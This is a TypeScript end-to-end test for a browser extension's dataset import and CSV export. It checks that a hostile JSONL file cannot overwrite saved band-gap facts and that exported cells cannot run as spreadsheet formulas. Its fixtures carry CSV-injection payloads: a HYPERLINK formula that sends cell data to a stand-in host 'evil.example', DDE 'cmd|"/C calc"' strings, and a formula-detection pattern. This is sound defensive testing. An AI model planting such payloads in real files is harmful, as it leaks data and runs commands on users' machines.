/**
 * End to end: a hostile JSONL file imported through the dataset page in Chromium, with the built
 * test extension and the browser's own IndexedDB. The file claims a saved fact's merge key and id
 * for other facts, carries spreadsheet formulas in every kind of cell, repeats an id, dates a row
 * in the future and breaks a line. The stored rows must show that an import never changes a saved
 * row and gives every added row a new id and an import note; the page must name each line's fate;
 * and the CSV export must start with a UTF-8 byte-order mark and hold no cell a spreadsheet runs.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DatasetTripletSchema, type DatasetTriplet } from '../../src/contracts/dataset';
import { toJsonl } from '../../src/export/dataset-export';
import { projectRoot } from '../support/shared-data';
import { chromiumPath, launchExtensionBrowser, type ExtensionBrowser } from './extension-browser';
import { readStore } from './extension-pages';
import { mergeKeyOf } from '../../src/store/dataset-triplet';

const skipReason = existsSync(chromiumPath) ? undefined : `${chromiumPath} not found: skipping e2e tests`;
const extensionDirectory = join(projectRoot, '.output', 'chrome-mv3-test');

/** A band gap of `material` (`value` eV) from one paper, with its SI value and merge key worked out as Assay does. */
function fact(id: string, material: string, value: number, change: Partial<DatasetTriplet> = {}): DatasetTriplet {
  const row: Omit<DatasetTriplet, 'mergeKey'> = {
    id,
    paper: {
      key: 'doi:10.1000/own',
      doi: '10.1000/own',
      url: null,
      title: 'Band gaps measured here',
      authors: ['A. Reader'],
      journal: 'J. Own Res.',
      year: 2025,
    },
    material,
    property: 'band_gap',
    value: { kind: 'number', value },
    valueText: String(value),
    unit: 'eV',
    si: { value: { kind: 'number', value: value * 1.602176634e-19 }, unit: 'kg m^2 s^-2' },
    evidence: { quote: { type: 'TextQuoteSelector', exact: `the band gap of ${material} is ${value} eV`, prefix: '', suffix: '' } },
    status: 'verified',
    review: { decision: 'accepted', at: '2025-05-01T00:00:00.000Z' },
    votes: ['moa', 'gd'],
    models: ['Qwen2.5-1.5B-Instruct-q4f16_1-MLC'],
    runId: 'run-own',
    savedAt: '2025-05-01T00:00:00.000Z',
    ...change,
  };
  return { ...row, mergeKey: mergeKeyOf(row) } as DatasetTriplet;
}

const own = fact('own-1', 'TiO2', 3.2);
const { evidence: _evidence, ...ownWithoutQuote } = own;

/** The hostile file, line by line (1-based in the comments). */
const hostileLines = [
  // 1: another fact (material, value, paper) under the saved fact's merge key, with no quote and a newer review.
  JSON.stringify({
    ...ownWithoutQuote,
    id: 'collide',
    material: 'PbI2',
    value: { kind: 'number', value: 9.9 },
    valueText: '9.9',
    paper: { ...own.paper, key: 'doi:10.6666/evil', doi: '10.6666/evil', title: 'Not the same paper' },
    review: { decision: 'accepted', at: '2026-01-01T00:00:00.000Z' },
  }),
  // 2: formulas in every kind of cell.
  toJsonl([
    fact('=1+1', '=HYPERLINK("https://evil.example/?leak="&A1,"TiO2")', 1.1, {
      conditions: [{ kind: 'other', value: '\t=cmd|"/C calc"!A0' }],
      evidence: { quote: { type: 'TextQuoteSelector', exact: '-2+3+cmd|"/C calc"!A0', prefix: '', suffix: '' } },
      votes: ['-2+3', 'gd'],
      models: ['@SUM(1+1)*cmd|"/C calc"!A0'],
      runId: '+HYPERLINK("https://evil.example")',
    }),
  ]).trimEnd(),
  // 3 and 4: two different facts under one id.
  toJsonl([fact('dup', 'ZnO', 3.3)]).trimEnd(),
  toJsonl([fact('dup', 'GaN', 3.4)]).trimEnd(),
  // 5: the saved row's id on another fact.
  toJsonl([fact(own.id, 'SnO2', 3.6)]).trimEnd(),
  // 6: the saved fact itself, with a newer rejection: merges, changes nothing. (Other conditions
  // would make it another fact since issue 26: test/unit/export/conditions-import.test.ts.)
  JSON.stringify({
    ...own,
    id: 'again',
    status: 'rejected',
    review: { decision: 'rejected', at: '2026-02-01T00:00:00.000Z' },
  }),
  // 7: not JSON.
  '{"id": "broken"',
  // 8: dated far in the future (it would sort first for ever and win every later merge).
  toJsonl([fact('future', 'CdS', 2.4, { savedAt: '2999-01-01T00:00:00.000Z' })]).trimEnd(),
];

const FORMULA_START = /^[=+\-@\t\r\n\0＝＋－＠]/;
const NUMBER = /^-?(?:\d+\.?\d*|\.\d+)(?:e[-+]?\d+)?$/i;

async function importFile(page: Page, name: string, text: string): Promise<string[]> {
  await page.getByTestId('import-file').setInputFiles({ name, mimeType: 'application/jsonl', buffer: Buffer.from(text) });
  const summary = page.getByTestId('import-summary').filter({ hasText: name });
  await summary.waitFor();
  return summary.locator('p, li').allTextContents();
}

describe.skipIf(skipReason !== undefined)(skipReason ?? 'a hostile import on the dataset page', () => {
  let browser: ExtensionBrowser;
  let page: Page;

  beforeAll(async () => {
    browser = await launchExtensionBrowser(extensionDirectory, []);
    page = await browser.context.newPage();
    await page.goto(browser.extensionUrl('dataset.html'));
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
  });

  it('keeps the saved row, adds every other fact under a new id with an import note, and reports each line', async () => {
    expect(await importFile(page, 'own.jsonl', toJsonl([own]))).toContain('own.jsonl: Added 1, merged 0; 0 problems');
    const [saved] = await readStore<DatasetTriplet>(page, 'triplets');
    expect(saved).toMatchObject({ material: 'TiO2', evidence: own.evidence, imported: { file: 'own.jsonl', sourceId: 'own-1' } });

    const report = await importFile(page, 'hostile.jsonl', hostileLines.join('\n'));
    expect(report.slice(0, 3)).toEqual([
      'hostile.jsonl: Added 5, merged 1; 2 problems',
      'Added 5: lines 1–5.',
      'Merged 1 into rows already saved, which are kept as they were: line 6.',
    ]);
    expect(report).toContain('Refused, with the reason:');
    expect(report.find((text) => text.startsWith('line 7: not JSON'))).toBeDefined();
    expect(report.find((text) => text.startsWith('line 8'))).toMatch(
      /^line 8: savedAt: 2999-01-01T00:00:00\.000Z is later than the time of this import \(\d{4}-\d{2}-\d{2}T/,
    );
    await page
      .getByTestId('triplet-count')
      .filter({ hasText: /^6 of 6 triplets/ })
      .waitFor();

    const rows = await readStore<DatasetTriplet>(page, 'triplets');
    expect(rows).toHaveLength(6);
    for (const row of rows) DatasetTripletSchema.parse(row);
    // The saved row, byte for byte: not its material, value, paper, quote, review or conditions.
    expect(rows.find((row) => row.id === saved!.id)).toEqual(saved);
    const added = rows.filter((row) => row.id !== saved!.id);
    // New ids: none is an id the file gave, none repeats.
    expect(new Set(added.map((row) => row.id)).size).toBe(5);
    for (const row of added) {
      expect(['collide', '=1+1', 'dup', own.id, 'again']).not.toContain(row.id);
      expect(row.imported).toMatchObject({ file: 'hostile.jsonl' });
      expect(row.mergeKey).toBe(mergeKeyOf(row));
    }
    expect(added.map((row) => row.imported!.sourceId).sort()).toEqual(['=1+1', 'collide', 'dup', 'dup', own.id].sort());
    // The colliding line is its own fact, on its own paper, without the saved row's quote.
    const collide = added.find((row) => row.imported!.sourceId === 'collide')!;
    expect(collide).toMatchObject({ material: 'PbI2', paper: { doi: '10.6666/evil' } });
    expect(collide.evidence).toBeUndefined();
    expect(
      added
        .filter((row) => row.imported!.sourceId === 'dup')
        .map((row) => row.material)
        .sort(),
    ).toEqual(['GaN', 'ZnO']);
  });

  it('exports a CSV with a UTF-8 byte-order mark and no cell a spreadsheet would run', async () => {
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-csv').click()]);
    const bytes = readFileSync(await download.path());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parse(bytes.toString('utf8'), { columns: true, bom: true }) as Array<Record<string, string>>;
    expect(records).toHaveLength(6);
    for (const record of records) {
      for (const [column, cell] of Object.entries(record)) {
        if (FORMULA_START.test(cell)) expect(cell, `${column} of ${record.id}`).toMatch(NUMBER);
      }
    }
    const formulas = records.find((record) => record.material?.includes('HYPERLINK'))!;
    expect(formulas).toMatchObject({
      material: `'=HYPERLINK("https://evil.example/?leak="&A1,"TiO2")`,
      other_conditions: `'\t=cmd|"/C calc"!A0`,
      quote: `'-2+3+cmd|"/C calc"!A0`,
      votes: "'-2+3;gd",
      models: `'@SUM(1+1)*cmd|"/C calc"!A0`,
      run_id: `'+HYPERLINK("https://evil.example")`,
      imported_from: 'hostile.jsonl',
    });
    expect(records.find((record) => record.material === 'TiO2')?.quote).toBe('the band gap of TiO2 is 3.2 eV');
  });
});
